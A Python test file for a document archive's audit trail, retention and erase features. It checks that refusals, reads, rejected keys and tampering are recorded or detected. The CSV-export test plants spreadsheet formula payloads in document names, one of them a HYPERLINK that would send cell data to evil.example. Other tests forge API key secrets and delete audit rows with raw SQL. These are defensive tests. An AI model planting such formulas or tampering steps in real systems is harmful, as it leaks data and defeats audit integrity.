"""An auditor's checks of the trail and of erasure, each found by using the product as one would
(CLI, a real API server, the app through AppTest): refusals, documents opened whole, reads of the
log itself, rejected keys and cancelled jobs are on the record with the real actor; the CSV export
carries no spreadsheet formula and the log no password typed as a name; retention forgets on disk
and over the API; tampering with the head is caught; erase tells a sentence another document holds
from a leftover, names the audit log when it is the leftover, and removes earlier versions' uploads."""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path

import httpx

from archivist import access, audit, audit_export, audit_retention, auth, keys

os.environ.setdefault("ARCHIVIST_UI_WARMUP", "0")
APP = str(Path(__file__).resolve().parent.parent / "ui" / "app.py")


def denials(ws) -> list[tuple]:
    return [(r["user"], r["target"], r["detail"]["surface"], r["detail"]["reason"], r["detail"].get("claimed"))
            for r in audit.read(ws, by="admin", action="access.denied")]


def test_a_refused_cli_command_is_recorded_with_its_actor_and_what_it_tried(ws, monkeypatch, capsys):
    """Refusals wrote no record ("nothing happened"): an auditor saw neither a member probing the
    audit log and grants nor a made-up --user. Each is now an `access.denied` with who and what."""
    from archivist.cli import main

    access.add_user(ws, "rita", by="admin")
    access.grant(ws, "rita", "hr", "read", by="admin")
    monkeypatch.setenv("ARCHIVIST_HOME", str(ws.home))
    assert main(["--user", "rita", "audit", "--csv"]) == 2
    assert main(["--user", "rita", "grant", "rita", "board", "admin"]) == 2
    assert main(["--user", "rita", "users", "add", "eve"]) == 2
    assert main(["--user", "ghost", "documents"]) == 2  # a name that is no user
    err = capsys.readouterr().err
    assert "needs the admin role" in err and "warning" not in err
    got = denials(ws)
    assert [g[:3] for g in got] == [("rita", "audit", "cli"), ("rita", "grant", "cli"), ("rita", "users add", "cli"),
                                    (None, "documents", "cli")]
    assert "may not read the audit log" in got[0][3] and "'board'" in got[1][3] and "add users" in got[2][3]
    assert got[3][4] == "ghost" and "no such user" in got[3][3]
    # nothing else happened: no grant, no user, and the chain holds
    assert access.grants_of(ws, "rita") == {"hr": "read"}
    assert [u["name"] for u in access.list_users(ws, by="admin")] == ["admin", "rita"]
    assert audit.verify(ws).ok


def test_a_refused_api_request_is_recorded_as_the_keys_user(ws):
    from archivist.api.app import create_app
    from archivist.api.serve import serve_in_thread

    access.add_user(ws, "rita", by="admin")
    access.grant(ws, "rita", "hr", "read", by="admin")
    key = keys.create_key(ws, "rita")
    srv = serve_in_thread(create_app(ws.settings))
    try:
        h = {"Authorization": f"Bearer {key}"}
        r = httpx.get(srv.url + "/v1/audit", headers=h, timeout=60)
        assert r.status_code == 403, r.text
        r = httpx.post(srv.url + "/v1/search", headers=h, timeout=60, json={"query": "merger", "collection": "board"})
        assert r.status_code == 403, r.text
    finally:
        srv.stop()
    got = denials(ws)
    assert [g[:3] for g in got] == [("rita", "GET /v1/audit", "api"), ("rita", "POST /v1/search", "api")]
    assert "admin role" in got[0][3] and "'board'" in got[1][3]
    assert audit.verify(ws).ok


def test_a_member_opening_the_audit_page_is_recorded(ws):
    from streamlit.testing.v1 import AppTest

    auth.create_first_admin(ws, "alice", "alice-pass-1")
    auth.create_user(ws, "bob", "bob-pass-12", by="alice")
    page = AppTest.from_file(str(Path(APP).parent / "views" / "audit.py"), default_timeout=60)  # its URL typed in
    page.session_state["_token"] = auth.create_session(ws, "bob")
    page.run()
    assert [e.value for e in page.error] == ["This page is for admins."]
    [(who, target, surface, reason, _)] = [d for d in denials(ws)]
    assert (who, surface, reason) == ("bob", "app", "This page is for admins.") and target.startswith("page ")


def test_the_csv_export_cannot_put_a_formula_into_the_auditors_spreadsheet(ws, embedder, tmp_path):
    """Whoever may ingest names the documents, and a document's name is the target of its records
    (so was any name typed at a failed sign-in): `=HYPERLINK(...)` became a live formula in the
    auditor's spreadsheet (OWASP "CSV injection")."""
    from archivist.ingest.pipeline import ingest_paths

    formula = '=HYPERLINK("evil.example?"&A1,"open").md'
    names = [formula, "@SUM(1+1).md", "+cmd.md"]
    for i, name in enumerate(names):
        (tmp_path / f"d{i}.md").write_text(f"# Note {i}\n\nThe canteen opens at {i + 7} o'clock on weekdays.\n")
        ingest_paths(ws, [tmp_path / f"d{i}.md"], names=[name], embedder=embedder, progress=False)
    rows = list(csv.reader(io.StringIO(audit_export.to_csv(audit.read(ws, by="admin", action="document.added")))))
    assert [row[4] for row in rows[1:]] == ["'" + n for n in names]
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]
    # --json keeps the values exactly as recorded
    assert [r["target"] for r in audit.read(ws, by="admin", action="document.added")] == names


def test_a_name_typed_at_sign_in_that_is_no_user_is_not_kept(ws):
    """People type their password into the user name field; the failed sign-in recorded whatever was
    typed, so the log held passwords (the doc says it never does). A real user's name is still kept."""
    access.add_user(ws, "rita", by="admin")
    auth.set_password(ws, "rita", "correct horse battery")
    for typed in ("correct horse battery", "rita"):
        try:
            auth.sign_in(ws, typed, "wrong")
        except auth.AuthError:
            pass
    got = [(r["user"], r["target"], r["detail"]) for r in audit.read(ws, by="admin", action="auth.sign_in_failed")]
    assert got == [(None, None, {"name": "unknown"}), (None, "rita", {})]
    assert "correct horse" not in str(audit.read(ws, by="admin"))


SHARED = "Expense claims above five hundred euros need the signature of a department head."
OWN = "The periwinkle marmoset fund pays for the team's annual retreat in Tromsø."


def test_an_erase_is_not_failed_by_the_same_sentence_in_another_document(ws, embedder, tmp_path):
    """A sentence the erased document shares with a document that stays is that document's: the
    report names it and exits 0, and a real leftover of its own text is still found."""
    from archivist.ingest.erase import erase
    from archivist.ingest.pipeline import ingest_paths

    (tmp_path / "policy.md").write_text(f"# Expenses\n\n{SHARED} {OWN}\n")
    (tmp_path / "handbook.md").write_text(f"# Handbook\n\n{SHARED} Meetings start at nine sharp on Mondays.\n")
    ingest_paths(ws, [tmp_path / "policy.md"], collection="hr", embedder=embedder, progress=False)
    ingest_paths(ws, [tmp_path / "handbook.md"], collection="ops", embedder=embedder, progress=False)
    report = erase(ws, "policy.md", "admin")
    assert report.leftovers == [] and report.held_elsewhere == ["handbook.md (ops)"]
    assert not [p for p in ws.home.rglob("*") if p.is_file() and OWN.encode() in p.read_bytes()]

    # the control: a copy of its own sentence left in a file is still a leftover
    (tmp_path / "policy.md").write_text(f"# Expenses\n\n{SHARED} {OWN}\n")
    ingest_paths(ws, [tmp_path / "policy.md"], collection="hr", embedder=embedder, progress=False)
    (ws.home / "runs" / "notes.txt").write_text(f"copied by hand: {OWN}")
    report = erase(ws, "policy.md", "admin")
    assert report.leftovers == ["runs/notes.txt"] and report.held_elsewhere == ["handbook.md (ops)"]


def test_purged_records_leave_no_copy_of_their_text_in_the_files(ws):
    """Retention is there to forget old questions: after a purge, the database file and its WAL no
    longer hold them, even while the workspace stays open (a server, the app)."""
    import time

    marker = "what is the xylophonequasar salary of bob"
    ws.db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    audit.record(ws, "search", user="admin", detail={"surface": "cli", "collections": [], "query": marker, "shown": []})
    ws.db.execute("PRAGMA wal_checkpoint(PASSIVE)")  # the record reaches the main file too, as it would in time
    access.add_user(ws, "rita", by="admin")
    time.sleep(1.2)
    access.add_user(ws, "sam", by="admin")  # newer than the cut: kept
    out = audit_retention.purge(ws, 1 / 86400, by="admin")
    assert out["purged"] >= 2
    assert [r["action"] for r in audit.read(ws, by="admin")][-2:] == ["user.add", "audit.purge"]
    assert audit.verify(ws).ok
    held = [p.name for p in ws.home.rglob("*") if p.is_file() and marker.encode() in p.read_bytes()]
    assert held == []


def test_opening_a_document_in_the_app_is_recorded_once_per_session(ws, embedder, tmp_path):
    """The Documents page shows a selected document's every chunk: who read the whole text is on
    the record, as the passages a search or an answer showed are (found: it was not)."""
    from streamlit.testing.v1 import AppTest

    from archivist.ingest.pipeline import ingest_paths

    auth.create_first_admin(ws, "alice", "alice-pass-1")
    auth.create_user(ws, "bob", "bob-pass-12", by="alice")
    (tmp_path / "merger.md").write_text("# Merger\n\nThe codename for the merger is periwinklemarmoset.\n")
    [doc] = ingest_paths(ws, [tmp_path / "merger.md"], collection="board", embedder=embedder, progress=False)
    access.grant(ws, "bob", "board", "read", by="alice")
    at = AppTest.from_file(APP, default_timeout=60)
    at.session_state["_token"] = auth.create_session(ws, "bob")
    at.run()
    at = at.switch_page("views/documents.py").run()
    assert audit.read(ws, by="admin", action="document.viewed") == []  # the list alone shows no text
    table = next(d for d in at.dataframe if d.key and d.key.startswith("doc-table"))
    at.session_state[table.key] = {"selection": {"rows": [0], "columns": []}}
    at.run()
    assert any("periwinklemarmoset" in t.value for t in at.text)  # the text was shown ...
    at.run()  # ... and a rerun shows it again without another record
    [rec] = audit.read(ws, by="admin", action="document.viewed")
    assert (rec["user"], rec["target"]) == ("bob", "merger.md")
    assert rec["detail"] == {"surface": "app", "document_id": doc.document_id, "collection": "board",
                             "version": rec["detail"]["version"], "chunks": 1}
    assert len(rec["detail"]["version"]) == 64 and audit.verify(ws).ok


def test_the_api_applies_the_retention_setting_like_the_cli_and_the_app(ws):
    """With ARCHIVIST_AUDIT_DAYS set, records past it are purged whenever the log is read: an auditor
    reading over HTTP must not be handed what the CLI and the app no longer show."""
    import dataclasses
    import sqlite3

    from archivist.api.app import create_app
    from archivist.api.serve import serve_in_thread

    access.add_user(ws, "old-timer", by="admin")
    raw = sqlite3.connect(ws.home / "archivist.db", isolation_level=None)
    raw.execute("UPDATE audit SET ts = ts - 40 * 86400")  # ten days past a 30-day retention
    raw.close()
    access.add_user(ws, "newcomer", by="admin")
    key = keys.create_key(ws, "admin")
    srv = serve_in_thread(create_app(dataclasses.replace(ws.settings, audit_days=30.0)))
    try:
        r = httpx.get(srv.url + "/v1/audit", headers={"Authorization": f"Bearer {key}"}, timeout=60)
    finally:
        srv.stop()
    assert r.status_code == 200, r.text
    got = [(x["action"], x["target"]) for x in r.json()["data"]]
    assert ("user.add", "old-timer") not in got and got[-1] == ("audit.purge", None)
    assert ("user.add", "newcomer") in got and audit.verify(ws).ok


def test_a_user_created_with_a_password_has_the_password_on_the_record(ws):
    """The app's Admin page creates users with a password (auth.create_user): that they can now sign
    in is as much on the record as a password set later (it was not: only `user.add`)."""
    auth.create_user(ws, "bob", "bob-pass-1234", by="admin")
    auth.create_user(ws, "carl", None, by="admin")  # a command-line user: no password, no record of one
    auth.set_password(ws, "carl", "carl-pass-1234", by="admin")
    got = [(r["action"], r["user"], r["target"]) for r in audit.read(ws, by="admin") if r["action"].startswith(("user.", "auth."))]
    assert got == [("user.add", "admin", "bob"), ("auth.password", "admin", "bob"),
                   ("user.add", "admin", "carl"), ("auth.password", "admin", "carl")]
    assert "bob-pass-1234" not in str(audit.read(ws, by="admin"))


def test_a_revoked_or_forged_key_presented_to_the_api_is_on_the_record(ws):
    """A failed sign-in in the app is recorded; a revoked API key someone still uses, or a real key's
    prefix with a guessed secret, was not. Made-up keys stay unrecorded (anyone can send those)."""
    from archivist.api.app import create_app
    from archivist.api.serve import serve_in_thread

    access.add_user(ws, "rita", by="admin")
    key = keys.create_key(ws, "rita")
    keys.revoke_key(ws, key)
    forged = key[:12] + ("0" if key[12] != "0" else "1") + key[13:]
    made_up = "ak-0123abcd" + key[11:]
    audit._KEY_DAYS.clear()
    srv = serve_in_thread(create_app(ws.settings))
    try:
        for k in (key, key, forged, made_up):
            r = httpx.get(srv.url + "/v1/models", headers={"Authorization": f"Bearer {k}"}, timeout=60)
            assert r.status_code == 401, r.text
    finally:
        srv.stop()
    got = [(r["user"], r["target"], r["detail"]["owner"], r["detail"]["why"])
           for r in audit.read(ws, by="admin", action="key.rejected")]
    assert got == [(None, key[:11], "rita", "revoked"), (None, key[:11], "rita", "wrong secret")]
    assert key[11:] not in str(audit.read(ws, by="admin"))  # never the secret
    assert audit.verify(ws).ok


def test_a_search_in_a_collection_the_user_may_not_read_keeps_what_was_asked(ws, embedder, tmp_path, monkeypatch, capsys):
    """`archivist --user rita search ... --collection board` finds nothing and says nothing of board
    (exit 0); the record said only `collections: []`, so the attempt on board was lost."""
    from archivist.cli import main
    from archivist.ingest.pipeline import ingest_paths

    (tmp_path / "merger.md").write_text("# Merger\n\nThe codename for the merger is periwinklemarmoset.\n")
    (tmp_path / "travel.md").write_text("# Travel\n\nTrain tickets are reimbursed in second class.\n")
    ingest_paths(ws, [tmp_path / "merger.md"], collection="board", embedder=embedder, progress=False)
    ingest_paths(ws, [tmp_path / "travel.md"], collection="hr", embedder=embedder, progress=False)
    access.add_user(ws, "rita", by="admin")
    access.grant(ws, "rita", "hr", "read", by="admin")
    monkeypatch.setenv("ARCHIVIST_HOME", str(ws.home))
    assert main(["--user", "rita", "search", "merger codename", "--collection", "board", "--collection", "hr", "--json"]) == 0
    assert "periwinklemarmoset" not in capsys.readouterr().out
    [rec] = audit.read(ws, by="admin", action="search")
    assert rec["user"] == "rita" and rec["detail"]["collections"] == ["hr"] and rec["detail"]["refused"] == ["board"]
    assert main(["search", "merger codename", "--json"]) == 0  # an admin's search over everything refuses nothing
    assert "refused" not in audit.read(ws, by="admin", action="search")[-1]["detail"]


def test_reading_the_audit_log_is_itself_on_the_record_on_every_surface(ws, monkeypatch, capsys):
    """Who looked at the trail, with which filters, is part of the trail (PCI DSS 10.2.1.3); it was
    not, on any surface. The read is recorded after it, so it shows in the next read."""
    from streamlit.testing.v1 import AppTest

    from archivist.api.app import create_app
    from archivist.api.serve import serve_in_thread
    from archivist.cli import main

    auth.create_first_admin(ws, "alice", "alice-pass-1")
    access.add_user(ws, "rita", by="alice")
    monkeypatch.setenv("ARCHIVIST_HOME", str(ws.home))
    assert main(["--user", "alice", "audit", "--user", "rita", "--csv"]) == 0
    assert "audit.read" not in capsys.readouterr().out  # not in the read it records
    key = keys.create_key(ws, "alice")
    srv = serve_in_thread(create_app(ws.settings))
    try:
        r = httpx.get(srv.url + "/v1/audit", params={"action": "user.", "format": "csv"},
                      headers={"Authorization": f"Bearer {key}"}, timeout=60)
        assert r.status_code == 200 and "audit.read" not in r.text
    finally:
        srv.stop()
    at = AppTest.from_file(APP, default_timeout=60)
    at.session_state["_token"] = auth.create_session(ws, "alice")
    at.run()
    at = at.switch_page("views/audit.py").run()
    at.run()  # a rerun with the same filters is not another read
    got = [(r["user"], r["detail"]["surface"], r["detail"]["format"], r["detail"]["filters"].get("user"),
            r["detail"]["filters"].get("action"), r["detail"]["records"]) for r in audit.read(ws, by="alice", action="audit.read")]
    assert got[:2] == [("alice", "cli", "csv", "rita", None, 0), ("alice", "api", "csv", None, "user.", 1)]
    assert [g[:3] for g in got[2:]] == [("alice", "app", "table")]
    assert audit.verify(ws).ok


def test_an_erase_says_when_the_leftover_is_a_question_in_the_audit_log(ws, embedder, tmp_path, monkeypatch, capsys):
    """Someone pasted a sentence of the document into a search: the append-only log keeps it, and
    the erase's leftover check named only `archivist.db`, which left the admin looking for a copy
    they could remove. The report now says where it is and why it stays."""
    from archivist.cli import main
    from archivist.ingest.pipeline import ingest_paths
    from archivist.retrieval.search import search

    (tmp_path / "merger.md").write_text(f"# Merger\n\n{OWN} The price is nine hundred million.\n")
    ingest_paths(ws, [tmp_path / "merger.md"], collection="board", embedder=embedder, progress=False)
    query = f"Explain: {OWN}"
    audit.searched(ws, "admin", "cli", query, search(ws, query, embedder=embedder), None)
    monkeypatch.setenv("ARCHIVIST_HOME", str(ws.home))
    assert main(["erase", "merger.md"]) == 1
    out = capsys.readouterr().out
    assert "still found in: archivist.db" in out and "the audit log quotes it" in out
    assert main(["erase", "merger.md", "--json"]) == 2  # gone: nothing to erase again


def test_who_cancelled_a_job_is_on_the_record(ws):
    """An admin may cancel anyone's job; the trail said nothing of it (a training run's own
    `finetune.finished` names its owner), so the one who stopped it was not on record."""
    from archivist import jobs

    access.add_user(ws, "bob", by="admin")
    job = jobs.create(ws, "ingest", "bob", spec={"paths": ["handbook.pdf"]})
    assert jobs.cancel(ws, job.id, "admin").state == "cancelled"
    jobs.cancel(ws, job.id, "admin")  # already cancelled: nothing happens, nothing recorded
    got = [(r["user"], r["target"], r["detail"]) for r in audit.read(ws, by="admin", action="job.cancel")]
    assert got == [("admin", job.id, {"kind": "ingest", "owner": "bob", "state": "queued"})]


def test_deleting_the_newest_records_with_the_head_is_not_silent(ws):
    """Deleting the newest records and the one `head` row needs no hashing at all (two DELETEs in
    sqlite3), and `verify` then said the log was intact."""
    import sqlite3

    for name in ("a1", "a2", "a3", "a4"):
        access.add_user(ws, name, by="admin")
    assert audit.verify(ws).ok
    raw = sqlite3.connect(ws.home / "archivist.db", isolation_level=None)
    raw.execute("DELETE FROM audit WHERE id > 2")
    raw.execute("DELETE FROM audit_state WHERE key = 'head'")
    raw.close()
    v = audit.verify(ws)
    assert not v.ok and v.records == 2
    assert any("head kept beside the log is missing" in p and "after 2" in p for p in v.problems)


def test_erase_removes_the_uploads_of_the_documents_earlier_versions(ws, embedder, monkeypatch, capsys):
    """A document uploaded again with new content is replaced, but its earlier upload stayed in
    uploads/<earlier hash>/ holding the earlier text; erase removed only the current one and the
    leftover check (which knows only the current text) said nothing."""
    from archivist.cli import main
    from archivist.ingest.pipeline import ingest_paths
    from archivist.ingest.uploads import save_upload

    first = b"# Plan\n\nThe first draft says the vault combination is 31-41-59 and nobody else knows.\n"
    second = b"# Plan\n\nThe second draft removes the combination entirely from this plan.\n"
    other = b"# Plan\n\nThe canteen plan for the new building has two floors and a terrace.\n"
    for data in (first, second):
        path, name = save_upload(ws, "plan.md", data)
        [r] = ingest_paths(ws, [path], names=[name], embedder=embedder, progress=False)
    assert r.status == "updated"
    path, name = save_upload(ws, "plan.md", other)  # the same name in another collection: not a version of it
    ingest_paths(ws, [path], names=[name], collection="facilities", embedder=embedder, progress=False)
    monkeypatch.setenv("ARCHIVIST_HOME", str(ws.home))
    assert main(["erase", "plan.md", "-c", "default"]) == 0
    assert "uploads of earlier versions removed: 1" in capsys.readouterr().out
    held = [p for p in ws.home.rglob("*") if p.is_file() and b"vault combination" in p.read_bytes()]
    assert held == []
    assert [p.read_bytes() for p in (ws.home / "uploads").rglob("plan.md")] == [other]
    [rec] = audit.read(ws, by="admin", action="document.erased")
    assert rec["detail"]["earlier_uploads"] == 1 and rec["detail"]["upload"] is True
